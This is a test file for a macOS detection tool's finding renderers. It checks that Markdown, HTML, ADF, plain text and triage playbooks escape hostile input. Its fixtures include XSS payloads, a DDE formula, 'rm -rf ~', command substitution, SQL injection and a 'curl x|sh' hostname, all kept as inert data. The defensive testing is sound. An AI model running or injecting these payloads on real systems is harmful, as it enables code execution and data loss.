"""The shared renderings of a finding (ADF, Markdown, HTML, plain text, triage playbook) and their escaping."""

from __future__ import annotations

import copy
import json
import re
import shlex
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from chainwatch.findings.render import (
    Code,
    Items,
    Paragraph,
    Section,
    Span,
    Table,
    clip,
    fit_sections,
    html_text,
    markdown_text,
    neutralize_formula,
    story_sections,
    to_adf,
    to_html_fragment,
    to_markdown,
    to_plain,
    triage_playbook,
)
from chainwatch.policy import DEFAULT_POLICY, load_policy

FID = "cw-ff421297cee65fabe5a13eec30092654"
HUGE = "A" * 1_000_000
MARKDOWN_ATTACK = "**b** _i_ [x](javascript:alert(1)) ![i](http://e/x.png) `t` # h | p <b>x</b> &lt; ~~s~~ @team $x$"
HTML_ATTACK = '</code></pre><script>alert(1)</script><img src=x onerror="alert(2)">'
ADF_ATTACK = '{"type":"mention","attrs":{"id":"5b10a2844c20165700ede21g","text":"@admin"}}'
CONTROL = "a\x1b[31mb\x00c\r\nd\u202ee\u2028f"


def sample() -> dict[str, Any]:
    """The mac-02 chain as ``chainwatch detect`` renders it (trimmed to what the renderings read)."""
    word = "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"
    curl = "curl -fsSL https://203.0.113.7/stage2?id=mac-02 -o /Users/alice/Library/Caches/.s2"
    return {
        "class_uid": 2004, "severity_id": 5, "severity": "Critical", "confidence": "High", "is_alert": True,
        "message": "AN1316 chain on mac-02: Microsoft Word spawned zsh which connected to 203.0.113.7",
        "metadata": {"uid": FID},
        "finding_info": {
            "uid": FID, "title": "AN1316 chain on mac-02: Microsoft Word spawned zsh which connected to 203.0.113.7",
            "attacks": [{"technique": {"uid": "T1204"}, "sub_technique": {"uid": "T1204.002"}},
                        {"technique": {"uid": "T1105"}}]},
        "device": {"hostname": "mac-02"},
        "evidences": [
            {"data": {"stage": 1}, "process": {"pid": 1201, "name": "Microsoft Word", "path": word, "cmd_line": word}},
            {"data": {"stage": 3}, "process": {"pid": 2210, "name": "zsh", "path": "/bin/zsh",
                                               "cmd_line": "/bin/zsh /Users/alice/Library/Caches/x.sh"}},
        ],
        "unmapped": {"chainwatch": {
            "route": "interpreter", "stages_present": [1, 2, 3, 4],
            "links": [{"from": 1, "to": 2, "strength": "strong", "reason": "same app process wrote the file"},
                      {"from": 2, "to": 3, "strength": "strong", "reason": "zsh names it in its arguments"},
                      {"from": 3, "to": 4, "strength": "strong", "reason": "same process entity"}],
            "process_tree": [
                {"depth": 0, "role": "app", "seen": "exec", "pid": 1201, "path": word, "cmd_line": word},
                {"depth": 1, "role": "interpreter", "seen": "exec", "pid": 2210, "path": "/bin/zsh",
                 "cmd_line": "/bin/zsh /Users/alice/Library/Caches/x.sh"},
                {"depth": 2, "role": "interpreter", "seen": "exec", "pid": 2215, "path": "/usr/bin/curl",
                 "cmd_line": curl}],
            "timeline": [
                {"time": "2025-09-18T13:52:40.518000000Z", "stage": 1, "text": "Microsoft Word started (exec)",
                 "source": "ocsf", "raw_ref": "events/ocsf/mac-02_chain.ocsf.json:1"},
                {"time": "2025-09-18T14:03:12.451000000Z", "stage": None, "text": "exec curl: " + curl,
                 "source": "ocsf", "raw_ref": "events/ocsf/mac-02_chain.ocsf.json:5"},
                {"time": "2025-09-18T14:03:12.918000000Z", "stage": 4, "text": "curl connected to 203.0.113.7:443",
                 "source": "ocsf", "raw_ref": "events/ocsf/mac-02_chain.ocsf.json:6"}],
            "files": ["/Users/alice/Library/Caches/x.sh"],
            "egress": [{"time": "2025-09-18T14:03:12.918000000Z", "pid": 2215, "process": "curl",
                        "ip": "203.0.113.7", "port": 443, "hostname": None, "protocol": "tcp",
                        "destination": "external", "attribution": "entity", "confidence": 3}],
            "quarantine": [], "gatekeeper": [],
            "reasons": ["all four stages with strong links", "egress to a raw IP address"],
            "notes": [], "suppressed_by": None,
        }},
    }


def quarantined() -> dict[str, Any]:
    doc = sample()
    cw = doc["unmapped"]["chainwatch"]
    cw["route"] = "quarantined_app"
    cw["quarantine"] = ["set com.apple.quarantine on /Users/alice/Downloads/Viewer.app: agent=Safari flags=0x0083 "
                        "uuid=1f3e5c2a-9b7d-4e11-a0c4-5d6e7f809a1b user_approved=False"]
    cw["gatekeeper"] = ["2025-09-18T14:03:12.000000000Z Gatekeeper prompt path=/Users/alice/Downloads/Viewer.app"]
    doc["evidences"][1]["process"] = {
        "pid": 2210, "name": "Viewer", "path": "/Users/alice/Downloads/Viewer.app/Contents/MacOS/Viewer",
        "file": {"signature": {"developer_uid": "ABCDE12345", "certificate": {"subject": "com.example.viewer"}}}}
    return doc


def hostile() -> dict[str, Any]:
    doc = sample()
    attack = " ".join((MARKDOWN_ATTACK, HTML_ATTACK, ADF_ATTACK, CONTROL, "=cmd|'/C calc'!A0"))
    doc["finding_info"]["title"] = attack
    doc["device"]["hostname"] = "host " + HTML_ATTACK
    cw = doc["unmapped"]["chainwatch"]
    for node in cw["process_tree"]:
        node["cmd_line"] = "```\n" + attack + HUGE
        node["path"] = "/tmp/x'; rm -rf ~ #" + MARKDOWN_ATTACK
    for entry in cw["timeline"]:
        entry["text"] = "=1+1 " + attack + HUGE
        entry["raw_ref"] = HTML_ATTACK
    cw["timeline"] = cw["timeline"] * 1000
    cw["files"] = ["/tmp/$(reboot)`id`.sh", MARKDOWN_ATTACK, HTML_ATTACK] * 50
    cw["reasons"] = ["1. looks like a list", "- also a list", "    indented code", attack]
    cw["links"][0]["reason"] = attack
    cw["notes"] = [HTML_ATTACK]
    cw["quarantine"] = ["set com.apple.quarantine on /tmp/a.app: agent=" + MARKDOWN_ATTACK + " flags=0x0083 "
                        "uuid=1' OR '1'='1 user_approved=False"]
    cw["egress"][0]["hostname"] = "evil.example`;curl x|sh;`" + HTML_ATTACK
    doc["evidences"][1]["process"]["cmd_line"] = attack + HUGE
    return doc


# -- building blocks -------------------------------------------------------------------------------------------


def test_clip_huge_value_bounded_and_controls_escaped() -> None:
    out = clip("x" * 5_000_000 + "\x1b", 300)
    assert len(out) == 300 and out.endswith("...")
    assert clip(CONTROL, 300) == r"a\x1b[31mb\x00c\r\nd\u202ee\u2028f"
    assert clip(None) == ""


def test_existing_helpers_neutralize_formula_and_html_text_kept() -> None:
    assert neutralize_formula("=SUM(A1)") == "'=SUM(A1)" and neutralize_formula("ok") == "ok"
    assert html_text('<a href="x">') == "&lt;a href=&quot;x&quot;&gt;"


_MD_UNESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")


@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), max_size=200))
def test_markdown_text_escapes_every_markup_character_round_trip(text: str) -> None:
    escaped = markdown_text(text)
    # Leading spaces become entities (our only ones); the rest is backslash escapes.
    lead = re.match(r"(?:&#32;)*", escaped)
    assert lead is not None
    body = escaped[lead.end():]
    # Removing the escapes gives the text back: nothing was lost or added.
    assert " " * (lead.end() // 5) + _MD_UNESCAPE.sub(r"\1", body) == text
    # Every markup character is escaped (preceded by an odd number of backslashes).
    for match in re.finditer(r"[`*_\[\]()#|<>!&~$@{}]", body):
        run = len(body[: match.start()]) - len(body[: match.start()].rstrip("\\"))
        assert run % 2 == 1, (text, escaped)
    # No block can open at the start: list markers, headings, indented code.
    assert not re.match(r"(\d+[.)]|[-+=])", escaped)
    assert not escaped.startswith(" ")


def test_markdown_text_line_start_constructs_escaped() -> None:
    assert markdown_text("1. item") == r"1\. item"
    assert markdown_text("- item") == r"\- item"
    assert markdown_text("    code") == "&#32;&#32;&#32;&#32;code"
    assert markdown_text("# head") == r"\# head"
    assert markdown_text("203.0.113.7", line_start=False) == "203.0.113.7"


# -- the story -------------------------------------------------------------------------------------------------


def test_story_sections_real_finding_in_order() -> None:
    sections = story_sections(sample())
    assert [s.title for s in sections] == ["", "Timeline", "Process tree", "Files", "Quarantine and Gatekeeper",
                                           "Egress (attributed to the child process)", "Links between stages",
                                           "Triage playbook"]
    [tree] = sections[2].blocks
    assert isinstance(tree, Code)
    assert tree.lines[1] == "  └─ zsh pid 2210 (interpreter, exec): /bin/zsh /Users/alice/Library/Caches/x.sh"
    assert sections[-1].keep


def test_story_sections_tolerate_missing_and_wrong_types() -> None:
    doc = {"finding_info": "nope", "unmapped": {"chainwatch": {"timeline": "x", "process_tree": [None, 3],
                                                               "egress": [{"port": "443"}], "links": None}}}
    text = to_plain(doc)
    assert "TRIAGE PLAYBOOK" in text
    assert "stage 1 (app activity): not seen" in text


def test_to_plain_real_finding_holds_the_story() -> None:
    text = to_plain(sample())
    assert text.startswith("[ALERT] AN1316 chain on mac-02")
    assert f"finding {FID}, severity critical, confidence high, host mac-02, stages 1+2+3+4" in text
    assert "2025-09-18T14:03:12.918000000Z | 4 egress | curl connected to 203.0.113.7:443" in text
    assert "203.0.113.7:443 tcp | external | entity (high)" in text
    assert "stage 2 → 3: strong, zsh names it in its arguments" in text
    assert "No quarantine attribute or Gatekeeper decision was seen" in text


@pytest.mark.parametrize("limit", [500, 1500, 4000, 16000])
def test_to_plain_hostile_bounded_and_printable(limit: int) -> None:
    text = to_plain(hostile(), max_chars=limit)
    assert len(text) <= limit
    assert all(line.isprintable() for line in text.split("\n"))
    if limit >= 4000:  # ServiceNow's description size: the playbook shrinks last, so it is still there
        assert "TRIAGE PLAYBOOK" in text and "isolate host" in text


def test_fit_sections_halves_largest_list_and_counts_omitted() -> None:
    sections = [Section("Big", (Table(("a",), tuple((str(i) * 50,) for i in range(100))),)),
                Section("Keep", (Items(tuple((Span("step " * 10),) for _ in range(5)), ordered=True),), keep=True)]
    fitted = fit_sections(sections, 2000)
    big, keep = fitted[0].blocks[0], fitted[1].blocks[0]
    assert isinstance(big, Table) and isinstance(keep, Items)
    assert len(big.rows) + big.omitted == 100 and big.omitted > 0
    assert len(keep.items) == 5 and keep.omitted == 0
    assert "more rows not shown" in to_plain_sections(fitted)


def to_plain_sections(sections: list[Section]) -> str:
    from chainwatch.findings.render import _plain

    return _plain(sections)


# -- ADF -------------------------------------------------------------------------------------------------------

_ADF_NODES = {"doc", "paragraph", "heading", "text", "table", "tableRow", "tableHeader", "tableCell", "codeBlock",
              "bulletList", "orderedList", "listItem"}


def _walk(node: Any) -> list[dict[str, Any]]:
    out = [node]
    for child in node.get("content", []) or []:
        out.extend(_walk(child))
    return out


def test_to_adf_real_finding_valid_structure() -> None:
    doc = to_adf(sample())
    assert doc["type"] == "doc" and doc["version"] == 1
    nodes = _walk(doc)
    assert {n["type"] for n in nodes} <= _ADF_NODES
    assert all(n["text"] for n in nodes if n["type"] == "text")
    tables = [n for n in nodes if n["type"] == "table"]
    assert tables[0]["content"][0]["content"][0]["type"] == "tableHeader"
    assert all(cell["content"][0]["type"] == "paragraph" for t in tables for row in t["content"]
               for cell in row["content"])
    [code] = [n for n in nodes if n["type"] == "codeBlock"]
    assert all("marks" not in child for child in code["content"])
    assert "zsh pid 2210" in code["content"][0]["text"]


def test_to_adf_injection_stays_text_bounded() -> None:
    doc = to_adf(hostile())
    nodes = _walk(doc)
    assert {n["type"] for n in nodes} <= _ADF_NODES  # no mention, link, media... whatever the strings said
    texts = [n["text"] for n in nodes if n["type"] == "text"]
    assert all(texts)
    assert all(m["type"] in ("strong", "em", "code") for n in nodes for m in n.get("marks", []))
    joined = "".join(texts)
    assert ADF_ATTACK[:40] in joined  # JSON shaped like an ADF node is shown, as text
    assert not any(ch in joined for ch in "\x1b\x00\r\u202e\u2028")
    assert len(json.dumps(doc)) < 200_000
    assert sum(map(len, texts)) <= 30_000


# -- Markdown --------------------------------------------------------------------------------------------------


def test_to_markdown_real_finding_table_and_fenced_tree() -> None:
    text = to_markdown(sample())
    assert text.startswith(r"**\[ALERT\] AN1316 chain on mac-02")
    assert "| Time \\(UTC\\) | Stage | Event | Source |\n|---|---|---|---|" in text
    assert "```text\nMicrosoft Word pid 1201" in text
    assert "1. Check the origin URL `https://203.0.113.7/stage2?id=mac-02`" in text


def test_to_markdown_injection_escaped_outside_code() -> None:
    text = to_markdown(hostile())
    # Outside code spans and fences, no markup character is left unescaped.
    prose = re.sub(r"(`{3,})text\n.*?\n\1", "", text, flags=re.S)
    # Code spans open on a backtick run that is not escaped; an escaped backtick (\`) is prose.
    prose = re.sub(r"(?<![\\`])(`+)(?!`).*?(?<!`)\1(?!`)", "", prose)
    for line in prose.split("\n"):
        if re.fullmatch(r"\|(---\|)+", line) or line.startswith("#### "):
            continue
        body = re.sub(r"^(\d+\. |- |\*\*|\| )", "", line)
        for match in re.finditer(r"[*_\[\]()<>!&~$@{}#]", body):
            before = body[: match.start()]
            if match.group() == "*" and (body.startswith("*") or body.endswith("**")):
                continue  # our own strong delimiters around the title
            if match.group() == "&" and body[match.start():].startswith("&#32;"):
                continue
            assert (len(before) - len(before.rstrip("\\"))) % 2 == 1, (line[:200], match.group())
    assert "<script>" not in prose and "](javascript:" not in prose


def test_to_markdown_code_fence_longer_than_any_backtick_run() -> None:
    doc = sample()
    doc["unmapped"]["chainwatch"]["process_tree"][1]["cmd_line"] = "echo ```` done"
    text = to_markdown(doc)
    assert "`````text\n" in text and "\n`````" in text


def test_to_markdown_table_cell_pipe_and_formula() -> None:
    doc = sample()
    doc["unmapped"]["chainwatch"]["timeline"][0]["text"] = "=HYPERLINK(x)|col"
    text = to_markdown(doc)
    assert r"| '=HYPERLINK\(x\)\|col |" in text


# -- HTML ------------------------------------------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def test_to_html_fragment_injection_escaped_only_own_tags() -> None:
    fragment = to_html_fragment(hostile())
    parser = _Tags()
    parser.feed(fragment)
    assert {t for t, _ in parser.tags} <= {"section", "p", "strong", "h3", "table", "thead", "tbody", "tr", "th",
                                           "td", "pre", "code", "ul", "ol", "li", "em"}
    assert [attrs for t, attrs in parser.tags if attrs] == [[("class", "chainwatch-finding")]]
    assert "&lt;script&gt;" in fragment and "<script" not in fragment
    assert len(fragment) < 6 * 24_000


def test_to_html_fragment_real_finding() -> None:
    fragment = to_html_fragment(sample())
    assert "<h3>Timeline</h3>" in fragment and "<pre><code>Microsoft Word pid 1201" in fragment
    assert "<td>203.0.113.7:443 tcp</td>" in fragment


# -- triage playbook -------------------------------------------------------------------------------------------


def test_triage_playbook_interpreter_route_steps() -> None:
    steps = triage_playbook(sample())
    text = "\n".join(steps)
    assert "Check the origin URL https://203.0.113.7/stage2?id=mac-02" in text
    assert "mdls -name kMDItemWhereFroms /Users/alice/Library/Caches/x.sh" in text
    assert "isolate mac-02 from the network" in text
    assert "zsh pid 2210, curl pid 2215" in text
    assert "Block 203.0.113.7:443 tcp" in text
    assert 'applies_to: "child", paths: ["/bin/zsh"]' in text
    assert 'destinations: ["203.0.113.7/32"]' in text


def test_triage_playbook_quarantine_record_query() -> None:
    text = "\n".join(triage_playbook(quarantined()))
    assert "Check the quarantine record on mac-02 (downloaded by Safari)" in text
    assert "LSQuarantineEventIdentifier = '1F3E5C2A-9B7D-4E11-A0C4-5D6E7F809A1B'" in text
    assert 'team_ids: ["ABCDE12345"], signing_ids: ["com.example.viewer"]' in text


def _entry(steps: list[str], marker: str) -> dict[str, Any]:
    [step] = [s for s in steps if marker in s]
    entries = yaml.safe_load(step[step.index("- {"):])
    assert isinstance(entries, list) and len(entries) == 1
    return dict(entries[0])


@pytest.mark.parametrize("make", [sample, quarantined, hostile])
def test_triage_playbook_allowlist_entry_loads_and_matches_the_chain(make: Any, tmp_path: Path) -> None:
    doc = make()
    steps = triage_playbook(doc)
    child = _entry(steps, "If benign")
    egress = _entry(steps, "only the destination")
    policy_file = tmp_path / "policy.yaml"
    data = yaml.safe_load(DEFAULT_POLICY.read_text())
    data["allowlist"] = [*data["allowlist"], child, egress]
    policy_file.write_text(yaml.safe_dump(data))
    policy = load_policy(policy_file)
    rule = next(r for r in policy.allowlist if r.id == child["id"])
    process = doc["evidences"][1]["process"]
    signature = None
    if rule.team_ids:
        from chainwatch.events import CodeSignature

        signature = CodeSignature(signing_id="com.example.viewer", team_id="ABCDE12345")
    assert rule.matches_process(process["path"], signature, process.get("cmd_line", ""), None)
    if make is sample:
        # The narrow rule: the same interpreter running another script is not allowed.
        assert not rule.matches_process("/bin/zsh", None, "/bin/zsh /tmp/other.sh", None)


def test_triage_playbook_hostile_paths_shell_quoted_and_bounded() -> None:
    steps = triage_playbook(hostile())
    assert all(len(step) < 2_000 for step in steps)
    assert all(step.isprintable() for step in steps)
    [hashing] = [s for s in steps if s.startswith("Hash and collect")]
    command = hashing[hashing.index("shasum"):]
    assert shlex.split(command)[3] == "/tmp/$(reboot)`id`.sh"  # one word, never expanded
    assert not any("LSQuarantineEventIdentifier" in s for s in steps)  # the uuid was not a uuid: no SQL


def test_story_sections_never_scan_huge_values_whole() -> None:
    doc = hostile()
    doc["unmapped"]["chainwatch"]["process_tree"] = [
        {"depth": 10**9, "pid": "x" * 10**6, "path": "/" * 10**6, "cmd_line": HUGE}] * 100
    text = to_plain(doc, max_chars=8000)
    assert len(text) <= 8000


def test_paragraph_and_code_blocks_render_in_all_formats() -> None:
    sections = [Section("T", (Paragraph((Span("a"), Span("b", "code"))), Code(("x",))))]
    from chainwatch.findings.render import adf_document

    adf = adf_document(sections)
    assert adf["content"][1]["content"][1]["marks"] == [{"type": "code"}]
    assert copy.deepcopy(adf) == adf
